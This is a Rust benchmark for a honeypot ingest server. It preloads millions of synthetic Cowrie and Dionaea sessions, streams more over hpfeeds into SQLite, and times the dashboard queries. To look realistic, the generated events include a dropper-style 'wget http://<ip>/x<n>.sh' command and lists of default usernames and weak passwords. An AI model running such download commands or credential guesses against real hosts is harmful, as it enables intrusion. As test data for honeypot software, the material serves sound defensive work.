//! End-to-end ingest benchmark: hpfeeds publishers over TCP → broker → pipeline
//! (normalize + geo enrichment with the real mmdb in `data/geo`) → SQLite store, on top of
//! a database that already holds millions of sessions.
//!
//! ```text
//! cargo bench -p apiary-server --bench ingest_e2e -- [--sessions N] [--seconds S]
//!     [--publishers P] [--batch B] [--preload-batch B] [--span-days D] [--ips N] [--dir DIR]
//! ```
//!
//! 1. Preload: N sessions (default 10,000,000) generated as cowrie.sessions /
//!    dionaea.connections payloads, normalized and geolocated by the real pipeline code
//!    (`apiary_ingest::pipeline::process`), spread over the last D days (default 30), and
//!    stored through `Store::insert_batch` in big batches (not over TCP).
//! 2. Live: a broker on 127.0.0.1:0, the server's ingest pipeline on its in-process
//!    subscription, and P publisher connections (default 4) publishing realistic payloads
//!    with varied public source addresses for S seconds (default 60). Prints committed
//!    events per second every 5 s and the sustained rate.
//! 3. Reference: a plain rusqlite bulk insert of the same session rows into a bare table
//!    (same columns, no indexes, no raw messages, no roll-ups, same batch size).
//! 4. Dashboard queries over the last 24 h at the final size: p50 and max of several runs.
//!
//! Nothing is asserted; only figures are printed.

use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::sync::Arc;
use std::time::{Duration as StdDuration, Instant};

use apiary_broker::router::ChannelFilter;
use apiary_broker::{Broker, BrokerConfig};
use apiary_geo::{GeoDb, GeoSettings};
use apiary_ingest::pipeline::{process, IngestMetrics, Pipeline, PipelineConfig};
use apiary_model::{Ident, Normalized, RawEvent, Secret};
use apiary_store::{Dimension, IngestItem, Page, SessionFilter, Store};
use bytes::Bytes;
use chrono::{DateTime, Duration, SecondsFormat, Utc};
use tokio_util::sync::CancellationToken;

type BoxError = Box<dyn std::error::Error + Send + Sync>;

struct Args {
    sessions: usize,
    seconds: u64,
    publishers: usize,
    batch: usize,
    preload_batch: usize,
    span_days: i64,
    ips: usize,
    dir: Option<PathBuf>,
}

impl Args {
    fn parse() -> Result<Self, BoxError> {
        let mut a = Args {
            sessions: 10_000_000,
            seconds: 60,
            publishers: 4,
            batch: 5_000,
            preload_batch: 50_000,
            span_days: 30,
            ips: 200_000,
            dir: None,
        };
        let mut it = std::env::args().skip(1);
        while let Some(flag) = it.next() {
            // `cargo bench` passes --bench; ignore flags we do not know.
            let known = [
                "--sessions",
                "--seconds",
                "--publishers",
                "--batch",
                "--preload-batch",
                "--span-days",
                "--ips",
                "--dir",
            ];
            if !known.contains(&flag.as_str()) {
                continue;
            }
            let v = it.next().ok_or(format!("{flag} needs a value"))?;
            let n = || -> Result<usize, BoxError> {
                Ok(v.replace('_', "")
                    .parse()
                    .map_err(|e| format!("{flag}: {e}"))?)
            };
            match flag.as_str() {
                "--sessions" => a.sessions = n()?,
                "--seconds" => a.seconds = n()? as u64,
                "--publishers" => a.publishers = n()?.max(1),
                "--batch" => a.batch = n()?.max(1),
                "--preload-batch" => a.preload_batch = n()?.max(1),
                "--span-days" => a.span_days = n()?.max(1) as i64,
                "--ips" => a.ips = n()?.max(1),
                _ => a.dir = Some(PathBuf::from(v)),
            }
        }
        Ok(a)
    }
}

/// xorshift64: fast, deterministic, good enough for test data.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    /// Skewed pick: low indexes far more often (a few heavy hitters, a long tail).
    fn skewed(&mut self, n: u64) -> u64 {
        let a = self.below(n);
        self.below(a + 1)
    }
}

/// `n` distinct public (geo-routable) IPv4 addresses.
fn address_pool(n: usize, seed: u64) -> Vec<Ipv4Addr> {
    let mut rng = Rng(seed);
    let mut seen = std::collections::HashSet::with_capacity(n);
    let mut out = Vec::with_capacity(n);
    while out.len() < n {
        let ip = Ipv4Addr::from(rng.next() as u32);
        if apiary_geo::is_non_routable(IpAddr::V4(ip)) || !seen.insert(ip) {
            continue;
        }
        out.push(ip);
    }
    out
}

const USERS: &[&str] = &[
    "root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "git", "pi", "support",
    "guest", "ftpuser", "deploy", "hadoop", "mysql", "nagios", "centos", "ec2-user", "www",
    "tomcat",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "1234",
    "111111",
    "toor",
    "raspberry",
    "123",
    "pass",
    "changeme",
    "admin123",
    "P@ssw0rd",
    "letmein",
    "default",
    "support",
    "ubnt",
    "1q2w3e4r",
];
const DIONAEA: &[(u16, &str)] = &[
    (445, "smbd"),
    (80, "httpd"),
    (1433, "mssqld"),
    (3306, "mysqld"),
    (21, "ftpd"),
    (5060, "SipSession"),
    (135, "epmapper"),
    (42, "nameserver"),
];
const SSH_CLIENTS: &[&str] = &[
    "SSH-2.0-libssh2_1.9.0",
    "SSH-2.0-Go",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-PuTTY_Release_0.70",
    "SSH-2.0-paramiko_2.7.1",
];

fn username(rng: &mut Rng) -> String {
    let i = rng.skewed(2_000) as usize;
    USERS
        .get(i)
        .map_or_else(|| format!("user{i}"), |s| (*s).to_owned())
}

fn password(rng: &mut Rng) -> String {
    let i = rng.skewed(20_000) as usize;
    PASSWORDS
        .get(i)
        .map_or_else(|| format!("pw{i:x}"), |s| (*s).to_owned())
}

/// One realistic payload: (channel, JSON). Cowrie sessions carry their own start time.
fn payload(
    rng: &mut Rng,
    pool: &[Ipv4Addr],
    sensor_ip: Ipv4Addr,
    ts: DateTime<Utc>,
) -> (&'static str, String) {
    let src = pool[rng.skewed(pool.len() as u64) as usize];
    let sport = 1024 + rng.below(64_000);
    if rng.below(10) < 6 {
        let telnet = rng.below(5) == 0;
        let (port, proto) = if telnet { (23, "telnet") } else { (22, "ssh") };
        let mut creds = Vec::new();
        for _ in 0..1 + rng.below(3) {
            creds.push(serde_json::json!([username(rng), password(rng)]));
        }
        let logged = rng.below(10) == 0;
        let loggedin = if logged {
            creds.last().cloned().unwrap_or(serde_json::Value::Null)
        } else {
            serde_json::Value::Null
        };
        let commands: Vec<String> = if logged {
            vec![
                "uname -a".into(),
                format!(
                    "wget http://{}/x{}.sh",
                    pool[rng.below(50) as usize],
                    rng.below(9)
                ),
            ]
        } else {
            Vec::new()
        };
        let end = ts + Duration::milliseconds(500 + rng.below(30_000) as i64);
        let v = serde_json::json!({
            "session": format!("{:012x}", rng.next() & 0xffff_ffff_ffff),
            "startTime": ts.to_rfc3339_opts(SecondsFormat::Micros, true),
            "endTime": end.to_rfc3339_opts(SecondsFormat::Micros, true),
            "peerIP": src.to_string(),
            "peerPort": sport,
            "hostIP": sensor_ip.to_string(),
            "hostPort": port,
            "loggedin": loggedin,
            "credentials": creds,
            "commands": commands,
            "unknownCommands": [],
            "urls": [],
            "version": if telnet { serde_json::Value::Null } else {
                SSH_CLIENTS[rng.skewed(SSH_CLIENTS.len() as u64) as usize].into()
            },
            "ttylog": null,
            "hashes": [],
            "protocol": proto,
        });
        ("cowrie.sessions", v.to_string())
    } else {
        let (port, proto) = DIONAEA[rng.skewed(DIONAEA.len() as u64) as usize];
        let v = serde_json::json!({
            "connection_type": "accept",
            "connection_transport": "tcp",
            "connection_protocol": proto,
            "remote_host": src.to_string(),
            "remote_port": sport,
            "remote_hostname": "",
            "local_host": sensor_ip.to_string(),
            "local_port": port,
        });
        ("dionaea.connections", v.to_string())
    }
}

fn sensor_ip(i: usize) -> Ipv4Addr {
    // Documentation-free public-looking addresses, one per sensor.
    Ipv4Addr::new(45, 33, (i / 200) as u8, 10 + (i % 200) as u8)
}

fn rate(n: u64, d: StdDuration) -> f64 {
    n as f64 / d.as_secs_f64().max(1e-9)
}

fn geo_db() -> GeoDb {
    let dirs = [
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../data/geo"),
        PathBuf::from("data").join("geo"),
    ];
    let settings = GeoSettings::discover_in(&dirs);
    match GeoDb::open(&settings) {
        Ok(db) if db.is_enabled() => db,
        Ok(_) | Err(_) => {
            println!("WARNING: no geo database found in data/geo; run scripts/fetch-geo.sh");
            GeoDb::disabled()
        }
    }
}

/// Preloads `total` sessions over `[now - span, now - 1 h)` through the store's write path.
async fn preload(
    store: &Arc<dyn Store>,
    geo: &Arc<GeoDb>,
    pool: &Arc<Vec<Ipv4Addr>>,
    a: &Args,
    now: DateTime<Utc>,
) -> Result<(), BoxError> {
    let total = a.sessions;
    if total == 0 {
        return Ok(());
    }
    let span_us = (a.span_days * 24 - 1) * 3_600_000_000;
    let start = now - Duration::days(a.span_days);
    let step_us = (span_us / total as i64).max(1);
    let batch = a.preload_batch;
    // Generate and normalize on a separate thread so it overlaps the inserts.
    let (tx, mut rx) = tokio::sync::mpsc::channel::<Vec<IngestItem>>(2);
    let (geo2, pool2) = (geo.clone(), pool.clone());
    let gen = std::thread::spawn(move || {
        let metrics = IngestMetrics::default();
        let mut rng = Rng(0x0bad_cafe_1234_5678);
        let mut done = 0usize;
        while done < total {
            let n = batch.min(total - done);
            let items: Vec<IngestItem> = (done..done + n)
                .map(|i| {
                    let ts = start + Duration::microseconds(step_us * i as i64);
                    let sensor = rng.below(20) as usize;
                    let (channel, body) = payload(&mut rng, &pool2, sensor_ip(sensor), ts);
                    let raw = RawEvent {
                        id: None,
                        channel: channel.into(),
                        ident: format!("sensor-{sensor:02}"),
                        received_at: ts,
                        payload: Bytes::from(body),
                    };
                    process(raw, &geo2, &metrics)
                })
                .collect();
            if tx.blocking_send(items).is_err() {
                return;
            }
            done += n;
        }
    });
    let t0 = Instant::now();
    let mut done = 0u64;
    let mut next_report = 500_000u64;
    while let Some(items) = rx.recv().await {
        done += items.len() as u64;
        store.insert_batch(items).await?;
        if done >= next_report || done == total as u64 {
            println!(
                "  preload {done:>10} / {total}  {:>8.0} sessions/s  ({:.0} s)",
                rate(done, t0.elapsed()),
                t0.elapsed().as_secs_f64()
            );
            next_report += 500_000;
        }
    }
    gen.join().map_err(|_| "generator thread panicked")?;
    Ok(())
}

/// The payloads publishers cycle through: (channel, payload, sensor index).
fn live_payloads(pool: &[Ipv4Addr], n: usize, sensors: usize) -> Vec<(usize, &'static str, Bytes)> {
    let mut rng = Rng(0x1234_5678_9abc_def1);
    let now = Utc::now();
    (0..n)
        .map(|i| {
            let s = i % sensors;
            let (ch, body) = payload(&mut rng, pool, sensor_ip(s), now);
            (s, ch, Bytes::from(body))
        })
        .collect()
}

async fn publisher(
    port: u16,
    ident: String,
    payloads: Arc<Vec<(usize, &'static str, Bytes)>>,
    me: usize,
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
) -> Result<(), BoxError> {
    let mut c = hpfeeds::Client::connect(hpfeeds::ClientOptions::new(
        "127.0.0.1",
        port,
        ident.as_str(),
        "bench-secret",
    ))
    .await?;
    let mine: Vec<&(usize, &'static str, Bytes)> = payloads.iter().filter(|p| p.0 == me).collect();
    let mut i = 0usize;
    while !stop.load(Relaxed) {
        for _ in 0..256 {
            let (_, ch, body) = mine[i % mine.len()];
            c.publish(ch, body).await?;
            i += 1;
        }
        sent.fetch_add(256, Relaxed);
    }
    c.flush().await?;
    c.close().await?;
    Ok(())
}

struct Live {
    committed: u64,
    sustained: f64,
    warm_window: f64,
}

async fn live(
    store: Arc<dyn Store>,
    geo: Arc<GeoDb>,
    payloads: Arc<Vec<(usize, &'static str, Bytes)>>,
    a: &Args,
) -> Result<Live, BoxError> {
    let broker = Broker::new(BrokerConfig::default());
    let idents: Vec<Ident> = (0..a.publishers)
        .map(|i| Ident {
            ident: format!("bench-{i:02}"),
            secret: Secret::new("bench-secret"),
            publish: vec!["cowrie.sessions".into(), "dionaea.connections".into()],
            subscribe: Vec::new(),
            owner: String::new(),
        })
        .collect();
    broker.load_idents(&idents);
    let source = broker.subscribe_internal(ChannelFilter::All, 65_536);
    let pipeline = Pipeline::spawn(
        source,
        store.clone(),
        geo,
        PipelineConfig {
            batch_size: a.batch,
            batch_delay: StdDuration::from_millis(200),
        },
    );
    let metrics = pipeline.metrics.clone();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let port = listener.local_addr()?.port();
    let shutdown = CancellationToken::new();
    let server = {
        let (b, s) = (broker.clone(), shutdown.clone());
        tokio::spawn(async move { b.run(listener, None, s).await })
    };
    let stop = Arc::new(AtomicBool::new(false));
    let sent = Arc::new(AtomicU64::new(0));
    let pubs: Vec<_> = (0..a.publishers)
        .map(|i| {
            tokio::spawn(publisher(
                port,
                format!("bench-{i:02}"),
                payloads.clone(),
                i,
                stop.clone(),
                sent.clone(),
            ))
        })
        .collect();

    let t0 = Instant::now();
    let warm = StdDuration::from_secs(5.min(a.seconds / 4));
    let mut at_warm = None;
    let mut last = (0u64, t0);
    let end = t0 + StdDuration::from_secs(a.seconds);
    while Instant::now() < end {
        tokio::time::sleep(StdDuration::from_secs(1).min(end - Instant::now())).await;
        let now = Instant::now();
        let c = metrics.raw_committed.load(Relaxed);
        if at_warm.is_none() && now - t0 >= warm {
            at_warm = Some((c, now));
        }
        if now - last.1 >= StdDuration::from_secs(5) || now >= end {
            println!(
                "  t={:>5.1}s committed {c:>10}  last interval {:>8.0} events/s  published {:>10}",
                (now - t0).as_secs_f64(),
                rate(c - last.0, now - last.1),
                sent.load(Relaxed)
            );
            last = (c, now);
        }
    }
    let t_end = Instant::now();
    let committed = metrics.raw_committed.load(Relaxed);
    let (wc, wt) = at_warm.unwrap_or((0, t0));
    let out = Live {
        committed,
        sustained: rate(committed - wc, t_end - wt),
        warm_window: (t_end - wt).as_secs_f64(),
    };
    stop.store(true, Relaxed);
    for p in pubs {
        if let Ok(Err(e)) = p.await {
            println!("  publisher error: {e}");
        }
    }
    shutdown.cancel();
    let _ = server.await;
    broker.wait_closed(StdDuration::from_secs(10)).await;
    let drain = Instant::now();
    if tokio::time::timeout(StdDuration::from_secs(120), pipeline.finish())
        .await
        .is_err()
    {
        println!("  pipeline did not drain within 120 s");
    }
    println!(
        "  drained the rest in {:.1} s: {} events committed in total, {} normalize errors, {} commit failures",
        drain.elapsed().as_secs_f64(),
        metrics.raw_committed.load(Relaxed),
        metrics.normalize_errors.load(Relaxed),
        metrics.commit_failures.load(Relaxed)
    );
    Ok(out)
}

/// Plain rusqlite: the same session rows into a bare table, same batch size.
fn reference(
    path: &std::path::Path,
    items: &[IngestItem],
    total: usize,
    batch: usize,
) -> rusqlite::Result<StdDuration> {
    let mut conn = rusqlite::Connection::open(path)?;
    conn.execute_batch(
        "PRAGMA journal_mode = WAL; PRAGMA synchronous = NORMAL; PRAGMA cache_size = -65536;
         CREATE TABLE sessions (id INTEGER PRIMARY KEY, ts INTEGER, source_ip TEXT,
             source_key BLOB, source_port INTEGER, destination_ip TEXT, destination_port INTEGER,
             protocol TEXT, honeypot TEXT, channel TEXT, sensor TEXT, internal INTEGER,
             country_code TEXT, country TEXT, city TEXT, latitude REAL, longitude REAL,
             asn INTEGER, as_org TEXT, destination_geo TEXT, signature TEXT, raw_id INTEGER,
             details TEXT);",
    )?;
    let sessions: Vec<&apiary_model::Session> = items
        .iter()
        .filter_map(|i| i.outcome.as_ref().ok())
        .flatten()
        .filter_map(|n| match n {
            Normalized::Session(s) => Some(&**s),
            _ => None,
        })
        .collect();
    let t = Instant::now();
    let mut done = 0usize;
    while done < total {
        let n = batch.min(total - done);
        let tx = conn.transaction()?;
        {
            let mut st = tx.prepare_cached(
                "INSERT INTO sessions (ts, source_ip, source_key, source_port, destination_ip,
                     destination_port, protocol, honeypot, channel, sensor, internal,
                     country_code, country, city, latitude, longitude, asn, as_org,
                     destination_geo, signature, raw_id, details)
                 VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?13, ?14, ?15,
                     ?16, ?17, ?18, ?19, ?20, ?21, ?22)",
            )?;
            for i in done..done + n {
                let s = sessions[i % sessions.len()];
                let geo = s.source_geo.as_ref();
                let key = match s.source_ip {
                    Some(IpAddr::V4(v4)) => Some(v4.to_ipv6_mapped().octets()),
                    Some(IpAddr::V6(v6)) => Some(v6.octets()),
                    None => None,
                };
                let details = serde_json::to_string(&s.details).unwrap_or_default();
                let dgeo = s
                    .destination_geo
                    .as_ref()
                    .and_then(|g| serde_json::to_string(g).ok());
                st.execute(rusqlite::params![
                    s.timestamp.timestamp_micros(),
                    s.source_ip.map(|i| i.to_string()),
                    key.as_ref().map(|k| &k[..]),
                    s.source_port,
                    s.destination_ip.map(|i| i.to_string()),
                    s.destination_port,
                    s.protocol,
                    s.honeypot,
                    s.channel,
                    s.sensor,
                    s.internal,
                    geo.and_then(|g| g.country_code.as_deref()),
                    geo.and_then(|g| g.country.as_deref()),
                    geo.and_then(|g| g.city.as_deref()),
                    geo.and_then(|g| g.latitude),
                    geo.and_then(|g| g.longitude),
                    geo.and_then(|g| g.asn),
                    geo.and_then(|g| g.as_org.as_deref()),
                    dgeo,
                    s.details.ids.as_ref().map(|a| a.signature.as_str()),
                    i as i64,
                    details,
                ])?;
            }
        }
        tx.commit()?;
        done += n;
    }
    Ok(t.elapsed())
}

async fn time_query<T, F, Fut>(label: &str, runs: usize, mut f: F)
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = apiary_store::Result<T>>,
{
    let mut times = Vec::with_capacity(runs);
    for _ in 0..runs {
        let t = Instant::now();
        if let Err(e) = f().await {
            println!("  {label:<40} error: {e}");
            return;
        }
        times.push(t.elapsed());
    }
    times.sort();
    println!(
        "  {label:<40} p50 {:>9.2} ms   max {:>9.2} ms",
        times[times.len() / 2].as_secs_f64() * 1e3,
        times[times.len() - 1].as_secs_f64() * 1e3
    );
}

fn load_average() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .map(|s| s.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
        .unwrap_or_else(|_| "?".into())
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> Result<(), BoxError> {
    let a = Args::parse()?;
    let tmp;
    let dir = match &a.dir {
        Some(d) => d.clone(),
        None => {
            tmp = tempfile::tempdir()?;
            tmp.path().to_path_buf()
        }
    };
    println!(
        "apiary end-to-end ingest bench: preload {} sessions over {} days, then {} s of {} \
         publishers over TCP, pipeline batch {}, {} source addresses; load average {}",
        a.sessions,
        a.span_days,
        a.seconds,
        a.publishers,
        a.batch,
        a.ips,
        load_average()
    );
    let geo = Arc::new(geo_db());
    println!(
        "  geo: {}",
        if geo.is_enabled() {
            "real mmdb"
        } else {
            "none"
        }
    );
    let pool = Arc::new(address_pool(a.ips, 0x5eed_0000_1111_2222));
    let now = Utc::now();
    let db = dir.join("apiary-e2e.db");
    let store: Arc<dyn Store> = apiary_store::open(&format!("sqlite://{}", db.display())).await?;

    // 1. Preload.
    let t = Instant::now();
    preload(&store, &geo, &pool, &a, now).await?;
    let before = store
        .total_sessions(now - Duration::days(3650), Utc::now() + Duration::hours(2))
        .await?;
    println!(
        "preload: {before} sessions stored in {:.0} s ({:.0}/s); database {:.0} MiB; load average {}",
        t.elapsed().as_secs_f64(),
        rate(a.sessions as u64, t.elapsed()),
        store.database_size_bytes().await? as f64 / 1048576.0,
        load_average()
    );

    // 2. Live ingest over TCP.
    let payloads = Arc::new(live_payloads(&pool, 200_000, a.publishers));
    println!("live: {} publishers for {} s", a.publishers, a.seconds);
    let result = live(store.clone(), geo.clone(), payloads.clone(), &a).await?;
    let after = store
        .total_sessions(now - Duration::days(3650), Utc::now() + Duration::hours(2))
        .await?;
    println!(
        "live: {} events committed during the window; sustained {:.0} events/s over the last {:.0} s; \
         sessions stored {before} -> {after}; load average {}",
        result.committed,
        result.sustained,
        result.warm_window,
        load_average()
    );

    // 3. Reference: the same rows, plain rusqlite, bare table.
    let metrics = IngestMetrics::default();
    let items: Vec<IngestItem> = payloads
        .iter()
        .map(|(s, ch, body)| {
            let raw = RawEvent {
                id: None,
                channel: (*ch).into(),
                ident: format!("bench-{s:02}"),
                received_at: Utc::now(),
                payload: body.clone(),
            };
            process(raw, &geo, &metrics)
        })
        .collect();
    let n_ref = (result.committed as usize).clamp(100_000, 5_000_000);
    let ref_db = dir.join("reference.db");
    let batch = a.batch;
    let ref_time =
        tokio::task::spawn_blocking(move || reference(&ref_db, &items, n_ref, batch)).await??;
    let ref_rate = rate(n_ref as u64, ref_time);
    println!(
        "reference: plain rusqlite bulk insert of {n_ref} of the same session rows (bare table, \
         batch {batch}): {ref_rate:.0} rows/s; load average {}",
        load_average()
    );
    println!(
        "ratio end-to-end / reference: {:.2}",
        result.sustained / ref_rate
    );

    // 4. Queries over the last 24 h at this size.
    let until = Utc::now();
    let since = until - Duration::hours(24);
    println!(
        "queries over the last 24 h ({} sessions in range, {after} stored):",
        store.total_sessions(since, until).await?
    );
    for d in [
        Dimension::SourceIp,
        Dimension::DestinationPort,
        Dimension::Honeypot,
        Dimension::Username,
        Dimension::Password,
        Dimension::Country,
        Dimension::Sensor,
    ] {
        time_query(&format!("top 10 {}", d.name()), 7, || {
            store.top(d, since, until, 10)
        })
        .await;
    }
    time_query("counts_per_hour (all)", 7, || {
        store.counts_per_hour(since, until, None)
    })
    .await;
    time_query("counts_per_hour (honeypot=cowrie)", 7, || {
        store.counts_per_hour(since, until, Some((Dimension::Honeypot, "cowrie".into())))
    })
    .await;
    time_query("total_sessions", 7, || store.total_sessions(since, until)).await;
    time_query("sessions first page (50)", 7, || {
        store.sessions(
            SessionFilter {
                since: Some(since),
                ..Default::default()
            },
            Page::first(50),
        )
    })
    .await;
    println!("load average {}", load_average());
    store.close().await;
    Ok(())
}
